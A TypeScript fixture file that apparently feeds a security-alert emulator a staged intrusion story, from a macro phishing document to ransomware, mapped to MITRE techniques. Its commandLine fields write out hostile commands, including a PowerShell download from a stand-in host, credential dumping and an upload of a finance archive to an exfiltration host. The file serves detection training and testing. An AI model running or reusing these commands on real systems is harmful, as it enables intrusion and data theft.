import type { AlertTemplate } from './alert-template.ts'

/** One alert of the intrusion: a template with its place in the story. */
export interface IntrusionStep extends AlertTemplate {
  /** Which of the first devices: 0 is the laptop in finance, 1 the file server, 2 the domain controller, 3 a desktop. */
  readonly device: 0 | 1 | 2 | 3
  /** Which of the first people: 0 is Dana of finance, 1 an administrator, 2 the backup service. */
  readonly person: 0 | 1 | 2
  /** Minutes before the emulator starts. */
  readonly minutesAgo: number
}

const atp = {
  detectionSource: 'WindowsDefenderAtp',
  families: ['windows'],
  detectionStatus: 'Detected',
} as const
const av = {
  detectionSource: 'WindowsDefenderAv',
  families: ['windows'],
  threatFamilyName: 'Northgale',
} as const

/** An intrusion that is still going on: from a mail in finance to the file server, oldest first. */
export const intrusion: readonly IntrusionStep[] = [
  {
    ...av,
    device: 0,
    person: 0,
    minutesAgo: 1_690,
    severity: 'Low',
    category: 'InitialAccess',
    mitreTechniques: ['T1566.001'],
    title: 'Document with suspicious macros was opened',
    description: 'A document from an e-mail holds macros that start other programs.',
    threatName: 'TrojanDownloader:O97M/Northgale.A',
    detectionStatus: 'Detected',
    clues: [
      { kind: 'user' },
      { kind: 'file', file: 'Invoice-4471.docm' },
      {
        kind: 'process',
        file: 'winword.exe',
        parent: 'outlook.exe',
        commandLine: 'WINWORD.EXE /n "C:\\Users\\dana.holt\\Downloads\\Invoice-4471.docm"',
      },
    ],
  },
  {
    ...atp,
    device: 0,
    person: 0,
    minutesAgo: 1_684,
    severity: 'Medium',
    category: 'Execution',
    mitreTechniques: ['T1059.001', 'T1204.002'],
    title: 'Office application started PowerShell',
    description: 'Word started PowerShell with a hidden window, which fetched a script.',
    clues: [
      { kind: 'user' },
      {
        kind: 'process',
        file: 'powershell.exe',
        parent: 'winword.exe',
        commandLine:
          'powershell.exe -w hidden -c "iwr https://cdn.northgale.example/s -OutFile C:\\Users\\Public\\stage.ps1"',
      },
      { kind: 'file', file: 'stage.ps1' },
      { kind: 'url', url: 'https://cdn.northgale.example/s' },
    ],
  },
  {
    ...atp,
    device: 0,
    person: 0,
    minutesAgo: 1_671,
    severity: 'Medium',
    category: 'Persistence',
    mitreTechniques: ['T1053.005', 'T1574.002'],
    title: 'Library with a misleading name was set to start at sign-in',
    description: 'A scheduled task loads a library that poses as part of the print service.',
    clues: [
      {
        kind: 'process',
        file: 'schtasks.exe',
        parent: 'powershell.exe',
        commandLine:
          'schtasks.exe /create /tn PrintHelper /tr "rundll32.exe C:\\ProgramData\\PrintHelper\\printhelper.dll,Run" /sc onlogon',
      },
      { kind: 'file', file: 'printhelper.dll' },
    ],
  },
  {
    ...atp,
    device: 0,
    person: 0,
    minutesAgo: 1_640,
    severity: 'High',
    category: 'CommandAndControl',
    mitreTechniques: ['T1071.001', 'T1573'],
    title: 'Beacon to a command-and-control server',
    description: 'A process calls the same address every minute, with little variation.',
    clues: [
      { kind: 'user' },
      {
        kind: 'process',
        file: 'rundll32.exe',
        parent: 'svchost.exe',
        commandLine: 'rundll32.exe C:\\ProgramData\\PrintHelper\\printhelper.dll,Run',
      },
      { kind: 'ip', address: '203.0.113.200' },
      { kind: 'url', url: 'https://telemetry.northgale.example/b' },
    ],
  },
  {
    ...atp,
    device: 0,
    person: 0,
    minutesAgo: 1_420,
    severity: 'Low',
    category: 'Discovery',
    mitreTechniques: ['T1018', 'T1069.002'],
    title: 'Domain groups and devices were listed',
    description: 'Commands listed the domain administrators and the servers of the company.',
    clues: [
      { kind: 'user' },
      {
        kind: 'process',
        file: 'net.exe',
        parent: 'rundll32.exe',
        commandLine: 'net.exe group "Domain Admins" /domain',
      },
    ],
  },
  {
    ...av,
    device: 0,
    person: 0,
    minutesAgo: 1_318,
    severity: 'High',
    category: 'CredentialAccess',
    mitreTechniques: ['T1003.001'],
    title: 'Memory of the local security authority was read',
    description: 'A hacking tool read passwords and hashes out of memory.',
    threatFamilyName: 'LsaView',
    threatName: 'HackTool:Win64/LsaView',
    detectionStatus: 'Detected',
    clues: [
      { kind: 'user' },
      {
        kind: 'process',
        file: 'lsa-view.exe',
        parent: 'cmd.exe',
        commandLine: 'lsa-view.exe --dump --out C:\\Users\\Public\\o.bin',
      },
      { kind: 'file', file: 'lsa-view.exe' },
    ],
  },
  {
    ...atp,
    device: 3,
    person: 1,
    minutesAgo: 1_122,
    severity: 'Medium',
    category: 'LateralMovement',
    mitreTechniques: ['T1550.002', 'T1021.002'],
    title: 'Sign-in with a stolen password hash',
    description:
      'An administrator signed in to a desktop from a laptop in finance, without typing a password.',
    clues: [
      { kind: 'user' },
      {
        kind: 'process',
        file: 'psexesvc.exe',
        parent: 'services.exe',
        commandLine: 'C:\\Windows\\PSEXESVC.exe',
      },
    ],
  },
  {
    ...atp,
    device: 1,
    person: 1,
    minutesAgo: 640,
    severity: 'High',
    category: 'LateralMovement',
    mitreTechniques: ['T1047'],
    title: 'Commands were run on a server from afar',
    description: 'The file server was told by a desktop to start a command prompt.',
    clues: [
      { kind: 'user' },
      {
        kind: 'process',
        file: 'cmd.exe',
        parent: 'wmiprvse.exe',
        commandLine: 'cmd.exe /Q /c dir D:\\Shares\\Finance',
      },
    ],
  },
  {
    ...atp,
    device: 1,
    person: 2,
    minutesAgo: 402,
    severity: 'Medium',
    category: 'Collection',
    mitreTechniques: ['T1560.001'],
    title: 'Large archive was made of a file share',
    description: 'The share of the finance department was packed into an archive with a password.',
    clues: [
      { kind: 'user' },
      {
        kind: 'process',
        file: '7z.exe',
        parent: 'cmd.exe',
        commandLine: '7z.exe a -p D:\\Shares\\Finance\\finance-q3.7z D:\\Shares\\Finance\\Q3',
      },
      { kind: 'file', file: 'finance-q3.7z' },
    ],
  },
  {
    ...atp,
    device: 1,
    person: 2,
    minutesAgo: 344,
    severity: 'High',
    category: 'Exfiltration',
    mitreTechniques: ['T1567.002'],
    title: 'Unusual amount of data was sent out',
    description: 'The file server sent 700 MB to a storage service that nobody else here uses.',
    clues: [
      {
        kind: 'process',
        file: 'powershell.exe',
        parent: 'cmd.exe',
        commandLine:
          'powershell.exe -c "Invoke-RestMethod -Method Put -InFile D:\\Shares\\Finance\\finance-q3.7z https://drop.filehaven.example/u/77"',
      },
      { kind: 'url', url: 'https://drop.filehaven.example/u/77' },
      { kind: 'ip', address: '203.0.113.214' },
    ],
  },
  {
    ...atp,
    device: 2,
    person: 1,
    minutesAgo: 96,
    severity: 'High',
    category: 'CredentialAccess',
    mitreTechniques: ['T1003.003'],
    title: 'Copy of the domain database was attempted',
    description: 'A shadow copy was made on the domain controller, as for copying the account database.',
    clues: [
      { kind: 'user' },
      {
        kind: 'process',
        file: 'vssadmin.exe',
        parent: 'cmd.exe',
        commandLine: 'vssadmin.exe create shadow /for=C:',
      },
    ],
  },
  {
    ...av,
    device: 1,
    person: 1,
    minutesAgo: 38,
    severity: 'High',
    category: 'Ransomware',
    mitreTechniques: ['T1486', 'T1490'],
    title: "'Northgale' ransomware was prevented",
    description: 'A program that encrypts files was stopped before it could start. Others may follow.',
    threatName: 'Ransom:Win64/Northgale.D',
    detectionStatus: 'Prevented',
    clues: [
      { kind: 'user' },
      { kind: 'file', file: 'northgale-lock.exe' },
      {
        kind: 'process',
        file: 'cmd.exe',
        parent: 'wmiprvse.exe',
        commandLine: 'cmd.exe /c C:\\Windows\\Temp\\northgale-lock.exe',
      },
    ],
  },
]
